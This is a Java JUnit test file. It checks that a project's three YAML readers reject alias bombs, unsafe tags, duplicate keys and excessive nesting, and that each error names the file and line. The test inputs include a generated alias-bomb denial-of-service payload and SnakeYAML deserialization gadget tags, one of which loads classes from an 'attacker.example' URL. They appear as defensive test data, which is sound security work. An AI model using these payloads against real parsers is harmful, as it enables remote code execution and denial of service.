package dev.portcullis.security;

import dev.portcullis.attributes.internal.FileAttributeSource;
import dev.portcullis.config.ConfigurationException;
import dev.portcullis.policy.internal.CerbosPolicyEvaluator;
import dev.portcullis.policy.PolicyLoadException;
import dev.portcullis.internal.route.RouteTable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

/**
 * The three YAML formats (policies, the route table, the file attribute store) read through one
 * front end: each refuses an alias bomb, an unsafe tag, a duplicate key and over-deep nesting with
 * a {@code file:line} message, and each accepts the same file without the fault.
 */
class YamlFrontEndTest {
    @TempDir
    Path dir;

    /** Ten levels of ten aliases each: about 10^10 values once expanded, from a few hundred bytes. */
    private static String aliasBomb(String indent) {
        StringBuilder b = new StringBuilder(indent + "bomb0: &b0 [x, x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 10; i++) {
            b.append(indent).append("bomb").append(i).append(": &b").append(i).append(" [");
            for (int j = 0; j < 10; j++) {
                b.append(j == 0 ? "" : ", ").append("*b").append(i - 1);
            }
            b.append("]\n");
        }
        return b.toString();
    }

    /** A flow value nested {@code depth} lists deep. */
    private static String deep(int depth) {
        return "[".repeat(depth) + "x" + "]".repeat(depth);
    }

    // ---- policies ----

    private static final String POLICY = "apiVersion: api.cerbos.dev/v1\n"
            + "resourcePolicy:\n  resource: doc\n  version: default\n"
            + "  rules:\n    - actions: [read]\n      effect: EFFECT_ALLOW\n      roles: [user]\n";

    private PolicyLoadException policyFails(String text) throws IOException {
        Files.writeString(dir.resolve("doc.yaml"), text, StandardCharsets.UTF_8);
        Throwable t = catchThrowable(() -> CerbosPolicyEvaluator.load(dir));
        assertThat(t).isInstanceOf(PolicyLoadException.class);
        return (PolicyLoadException) t;
    }

    @Test
    void policyWhenCleanThenLoads() throws IOException {
        Files.writeString(dir.resolve("doc.yaml"), POLICY, StandardCharsets.UTF_8);
        assertThat(CerbosPolicyEvaluator.load(dir).covers("doc", "read")).isTrue();
    }

    @Test
    void policyWhenAliasBombThenRefusedWithFileAndLine() throws IOException {
        PolicyLoadException e = policyFails(POLICY.replace("resourcePolicy:\n",
                "resourcePolicy:\n  metadata:\n    annotations:\n" + aliasBomb("      ")));
        assertThat(e.getMessage()).matches("(?s).*doc\\.yaml:\\d+: invalid YAML: more than 50 aliases.*");
    }

    @Test
    void policyWhenUnsafeTagThenRefusedWithFileAndLine() throws IOException {
        PolicyLoadException e = policyFails(POLICY.replace("resource: doc",
                "resource: !!javax.script.ScriptEngineManager [doc]"));
        assertThat(e.line()).isEqualTo(3);
        assertThat(e.getMessage()).contains("doc.yaml:3: invalid YAML: tag tag:yaml.org,2002:javax.script.ScriptEngineManager"
                + " is not allowed");
    }

    @Test
    void policyWhenDuplicateKeyThenRefusedWithFileAndLine() throws IOException {
        PolicyLoadException e = policyFails(POLICY.replace("  version: default\n",
                "  version: default\n  resource: other\n"));
        assertThat(e.line()).isEqualTo(5);
        assertThat(e.getMessage()).endsWith("doc.yaml:5: invalid YAML: duplicate key 'resource'");
    }

    @Test
    void policyWhenNestedTooDeepThenRefusedWithFileAndLine() throws IOException {
        PolicyLoadException e = policyFails(POLICY + "  x: " + deep(60) + "\n");
        assertThat(e.getMessage()).endsWith("doc.yaml:9: invalid YAML: nested deeper than 50 levels");
        // the positive twin: 40 levels are within the limit (the unknown field is then the problem)
        assertThat(policyFails(POLICY + "  x: " + deep(40) + "\n").getMessage()).contains("unknown field 'x'");
    }

    // ---- route table ----

    private static final String ROUTES = "unmatched: deny\n"
            + "routes:\n  - route: GET /api/documents/{id}\n    resource: document\n    action: read\n"
            + "    id: \"{id}\"\n";

    private static ConfigurationException routesFail(String text) {
        Throwable t = catchThrowable(() -> RouteTable.parse(text, "routes.yaml", "portcullis.routes"));
        assertThat(t).isInstanceOf(ConfigurationException.class);
        assertThat(((ConfigurationException) t).setting()).isEqualTo("portcullis.routes");
        return (ConfigurationException) t;
    }

    @Test
    void routesWhenCleanThenParsed() {
        assertThat(RouteTable.parse(ROUTES, "routes.yaml", "portcullis.routes").routes()).hasSize(1);
    }

    @Test
    void routesWhenAliasBombThenRefusedWithFileAndLine() {
        assertThat(routesFail(ROUTES + aliasBomb("")).getMessage())
                .matches("(?s).*routes\\.yaml:\\d+: invalid YAML: more than 50 aliases.*");
    }

    @Test
    void routesWhenUnsafeTagThenRefusedWithFileAndLine() {
        assertThat(routesFail(ROUTES.replace("resource: document",
                "resource: !!java.net.URL [\"http://example.com\"]")).getMessage())
                .contains("routes.yaml:4: invalid YAML: tag tag:yaml.org,2002:java.net.URL is not allowed");
        assertThat(routesFail(ROUTES.replace("resource: document", "resource: !custom document")).getMessage())
                .contains("routes.yaml:4: invalid YAML: tag !custom is not allowed");
    }

    @Test
    void routesWhenDuplicateKeyThenRefusedWithFileAndLine() {
        assertThat(routesFail(ROUTES + "unmatched: authenticated\n").getMessage())
                .contains("routes.yaml:7: invalid YAML: duplicate key 'unmatched'");
    }

    @Test
    void routesWhenNestedTooDeepThenRefusedWithFileAndLine() {
        assertThat(routesFail(ROUTES.replace("    id: \"{id}\"\n", "    id: " + deep(51) + "\n")).getMessage())
                .contains("routes.yaml:6: invalid YAML: nested deeper than 50 levels");
    }

    // ---- file attribute store ----

    private static final String PRINCIPALS = "principals:\n"
            + "  - issuer: https://idp.example\n    subject: alice\n    roles: [user]\n"
            + "    attributes:\n      department: sales\n";

    private String storeFails(String text) throws IOException {
        Path file = dir.resolve("principals.yaml");
        Files.writeString(file, text, StandardCharsets.UTF_8);
        Throwable t = catchThrowable(() -> FileAttributeSource.builder().file(file).build());
        assertThat(t).isInstanceOf(ConfigurationException.class);
        assertThat(((ConfigurationException) t).setting()).isEqualTo(FileAttributeSource.FILE);
        return t.getMessage();
    }

    @Test
    void storeWhenCleanThenRead() throws IOException {
        Path file = dir.resolve("principals.yaml");
        Files.writeString(file, PRINCIPALS, StandardCharsets.UTF_8);
        assertThat(FileAttributeSource.builder().file(file).build().toString()).contains("principals.yaml");
    }

    @Test
    void storeWhenAliasBombThenRefusedWithFileAndLine() throws IOException {
        assertThat(storeFails(PRINCIPALS + aliasBomb(""))).matches("(?s).*principals\\.yaml:\\d+: more than 50 aliases.*");
    }

    @Test
    void storeWhenUnsafeTagThenRefusedWithFileAndLine() throws IOException {
        assertThat(storeFails(PRINCIPALS.replace("department: sales",
                "department: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                        + " [\"http://attacker.example/\"]]]]")))
                .contains("principals.yaml:6: tag tag:yaml.org,2002:javax.script.ScriptEngineManager is not allowed");
        assertThat(storeFails(PRINCIPALS.replace("[user]", "!!set {user}")))
                .contains("principals.yaml:4: tag tag:yaml.org,2002:set is not allowed");
    }

    @Test
    void storeWhenDuplicateKeyThenRefusedWithFileAndLine() throws IOException {
        assertThat(storeFails(PRINCIPALS + "      department: support\n"))
                .contains("principals.yaml:7: duplicate key 'department'");
    }

    @Test
    void storeWhenNestedTooDeepThenRefusedWithFileAndLine() throws IOException {
        assertThat(storeFails(PRINCIPALS + "      tree: " + deep(55) + "\n"))
                .contains("principals.yaml:7: nested deeper than 50 levels");
    }

    @Test
    void storeWhenRecursiveAliasThenRefusedWithFileAndLine() throws IOException {
        assertThat(storeFails(PRINCIPALS + "      loop: &a [1, *a]\n"))
                .contains("principals.yaml:7: alias *a refers to itself (recursive)");
        // the positive twin: an alias to a finished value is fine for the reader
        Path file = dir.resolve("principals.yaml");
        Files.writeString(file, PRINCIPALS.replace("roles: [user]", "roles: &r [user]")
                + "  - issuer: https://idp.example\n    subject: bob\n    roles: *r\n", StandardCharsets.UTF_8);
        assertThat(FileAttributeSource.builder().file(file).build()).isNotNull();
    }
}
